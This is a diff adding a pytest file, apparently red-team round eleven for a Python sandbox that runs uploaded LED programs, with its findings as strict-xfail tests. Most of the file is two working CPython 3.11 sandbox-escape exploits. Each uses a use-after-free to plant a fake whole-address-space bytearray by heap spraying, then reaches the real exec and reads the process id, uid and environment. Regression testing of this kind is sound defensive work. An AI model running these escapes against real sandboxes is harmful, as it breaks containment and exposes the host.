@@ -1,0 +1,227 @@
+"""Red team, round eleven: the sandbox's language layer, attacked with ordinary tree programs.
+
+Programs the upload check accepts, run by a real ``Supervisor`` and ``Previewer`` in real
+confined children, no mocks. ``docs/red-team/round11-language.md`` has the reproductions, what
+held, and the suggested fixes; the numbers below are its findings'. Every memory experiment
+runs in a child, never in the pytest process.
+"""
+
+from __future__ import annotations
+
+import pytest
+
+from runner.config import RunnerConfig
+from runner.leds.layout import spiral_cone
+from runner.leds.virtual import VirtualStrip
+from runner.supervise.check import Checker
+from runner.supervise.preview import Previewer, PreviewReport
+from runner.supervise.supervisor import RunResult, Supervisor
+
+LEDS = 10
+LIMIT_S = 3.0
+
+
+def _config() -> RunnerConfig:
+    return RunnerConfig(led_count=LEDS, fps=40.0, time_limit_s=LIMIT_S, preview_cpu_s=2)
+
+
+def _dry_run(program: str) -> PreviewReport:
+    # prestart, as the runner's server makes them: the child waits, confined, for its program
+    previewer = Previewer(_config(), spiral_cone(LEDS), prestart=True)
+    try:
+        return previewer.preview(program)
+    finally:
+        previewer.close()
+
+
+def _tree_run(program: str, name: str) -> RunResult:
+    with Supervisor(_config(), VirtualStrip(LEDS), spiral_cone(LEDS), prestart=True) as tree:
+        return tree.run(name, program)
+
+
+# From a fake bytearray over the whole address space to the real ``exec``, as in rounds eight
+# and ten: ``id(print) + 16`` is the ``SandboxFunction``'s ``_call`` (a function of
+# ``runner.sandbox.guards``), ``+ 16`` its ``__globals__``, stored into a list of the program's.
+FROM_MEMORY_TO_EXEC = """
+memory = found[-1]
+print("memory over everything:", isinstance(memory, bytearray) and len(memory) > (1 << 60))
+
+
+def read(address):
+    return int.from_bytes(memory[address : address + 8], "little")
+
+
+def write(address, value):
+    memory[address : address + 8] = word(value)
+
+
+function = read(id(print) + 16)
+module_globals = read(function + 16)
+holder = [None]
+write(module_globals, read(module_globals) + 1)
+write(read(id(holder) + 24), module_globals)
+real = holder[0]
+namespace = {"__builtins__": real["builtins"]}
+source = "import os; found = (os.getpid(), os.getuid(), sorted(os.environ))"
+real["builtins"].exec(source, namespace)
+print("ESC" + "APED: pid, uid, environment:", namespace["found"])
+"""
+
+
+def _assert_contained(program: str, name: str) -> None:
+    assert Checker(_config()).check(program) == [], "the upload check accepts the program"
+    real = _tree_run(program, name)
+    predicted = _dry_run(program)
+    for log in (real.log, predicted.log):
+        assert "ESCAPED" not in log, log
+    # However a fix refuses it, the program must not end as if nothing happened, nor crash.
+    assert real.status == "failed" and real.error is not None, real
+    assert real.reason != "killed", real.error
+    assert predicted.status == "failed" and predicted.error is not None, predicted
+
+
+# --- 1. a program's __contains__ frees both items of a list comparison (real builtins) ----------
+#
+# The round-ten guard counts only the comparison methods (and __bool__/__len__) of the program's
+# classes. CPython 3.11's ``list_richcompare`` makes its last comparison through borrowed
+# pointers (gh-120298); when the left item is a dict keys view and the right one a ``set``
+# subclass, the view's comparison (``dictview_richcompare`` -> ``all_contained_in``) calls the
+# set's ``__contains__`` for every key: program code that is not counted, so it may empty both
+# lists (and swap a key of the dict, keeping its size). When it returns True, the set (240-byte
+# block) is freed by its frame, then ``Py_DECREF(next)`` frees the swapped-out key, whose
+# suspended generator's ``finally`` refills the block with bytes: a fake instance of a
+# ``bytearray`` subclass of the program's, over the whole address space. The loop goes on with
+# ``PySequence_Contains(freed set, next key)``, which calls the fake's type's ``__contains__``
+# with the fake as ``self``. Found: every run, tree and dry run, ``completed``/``ended``, log
+# "ESCAPED: pid, uid, environment: (…, 65534, ['LC_CTYPE'])".
+CONTAINS_ESCAPE = (
+    '''def word(value):
+    return value.to_bytes(8, "little")
+
+
+class Fake(bytearray):
+    def __contains__(self, item):
+        found.append(self)
+        return False
+
+
+# A Fake (bytearray subclass) as CPython 3.11 lays it out: data at address 0, 2**62 bytes long;
+# padded to the victim's size class.
+FAKE = word(1 << 40) + word(id(Fake)) + word(1 << 62) + word(1 << 62)
+FAKE += word(0) + word(0) + word(0) + bytes(144)
+spray = [None] * 600
+found = [None]
+
+
+class Victim(set):
+    def __contains__(self, item):
+        left.clear()
+        right.clear()
+        del table[item]
+        table[Key()] = 0
+        return True
+
+
+def reclaim():
+    try:
+        yield
+    finally:
+        for i in range(600):
+            spray[i] = bytes(bytearray(FAKE))
+
+
+class Key:
+    pass
+
+
+first = Key()
+first.pending = reclaim()
+next(first.pending)
+table = {first: 0, Key(): 0}
+first = None
+left = [table.keys()]
+right = [Victim([1, 2, 3, 4])]
+%s
+'''
+    + FROM_MEMORY_TO_EXEC
+)
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="red team round eleven: a program's __contains__ (not counted as a comparison "
+    "method) frees both items of a list comparison: the real builtins",
+)
+@pytest.mark.parametrize("comparison", ["left < right", "sorted([right, left])"])
+def test_a_program_cant_free_a_compared_item_from_its_contains_method(comparison: str) -> None:
+    _assert_contained(CONTAINS_ESCAPE % comparison, "contains-escape")
+
+
+# --- 2. super().__init__() empties a list while a comparison method runs (real builtins) -------
+#
+# ``super().__init__`` (and every allowed special method named through ``super()``) compiles
+# to a plain attribute: no ``_getattr_``, so no ``guard_method``; and it is a method-wrapper,
+# which ``guard_method`` would not check anyway. ``list.__init__`` empties the list first
+# (``set.__init__`` too; ``super().__setitem__`` replaces an item). So round ten's exploit, with
+# the two lists made of a ``list`` subclass whose ``empty()`` calls ``super().__init__()``,
+# works as before, the counter notwithstanding (the reflected ``__gt__`` keeps its objects with
+# ``append``, which the guard allows). Found: every run, ``completed``/``ended``, "ESCAPED".
+SUPER_INIT_ESCAPE = (
+    '''def word(value):
+    return value.to_bytes(8, "little")
+
+
+FAKE = word(1 << 40) + word(id(bytearray)) + word(1 << 62) + word(1 << 62)
+FAKE += word(0) + word(0) + word(0) + bytes(144)
+spray = [None] * 600
+found = [None]
+keep = [None]
+
+
+class Box(list):
+    def empty(self):
+        super().__init__()
+
+
+class Victim(set):
+    def __lt__(self, other):
+        left.empty()
+        right.empty()
+        return NotImplemented
+
+
+class Trigger:
+    def __gt__(self, other):
+        keep.append(self)
+        found.append(other)
+        return False
+
+
+def reclaim():
+    try:
+        yield
+    finally:
+        for i in range(600):
+            spray[i] = bytes(bytearray(FAKE))
+
+
+trigger = Trigger()
+trigger.pending = reclaim()
+next(trigger.pending)
+left = Box([Victim()])
+right = Box([trigger])
+trigger = None
+%s
+'''
+    + FROM_MEMORY_TO_EXEC
+)
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="red team round eleven: super().__init__() on a list subclass empties it while a "
+    "comparison method runs, unguarded: round ten's escape again",
+)
+@pytest.mark.parametrize("comparison", ["left < right", "sorted([right, left])"])
+def test_a_program_cant_empty_a_compared_list_through_super_init(comparison: str) -> None:
+    _assert_contained(SUPER_INIT_ESCAPE % comparison, "super-init-escape")
